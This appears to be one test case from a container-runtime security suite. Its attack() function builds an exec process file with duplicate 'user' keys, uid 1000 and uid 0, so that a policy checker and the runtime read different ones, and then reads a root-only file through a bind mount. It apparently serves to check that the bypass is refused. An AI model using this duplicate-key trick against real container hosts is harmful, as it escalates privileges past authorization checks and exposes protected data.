"""A process file has `user` twice: a checker reads one, the runtime the other."""

import json

from bypass import refused

SOURCE = "idea: parsers disagree on duplicate members (as CVE-2024-41110 has it for requests)"
WAY = "exec"
STOPPED = refused("json")


def attack(t):
    t.plant("/mnt/host/data/only-root", 0o600)
    t.bind("/mnt/host/data", "/x", "rbind", "ro")
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.up()
    path = t.process("cat /x/only-root")
    text = t.read(path)
    root = '"user": {"uid": 0, "gid": 0}'
    # runc takes the last, crun the first
    t.write(path, "{" + root + ", " + text[1:-1] + ", " + root + "}")
    return t.leaked(t.call("exec", "--process", path, t.id).text)
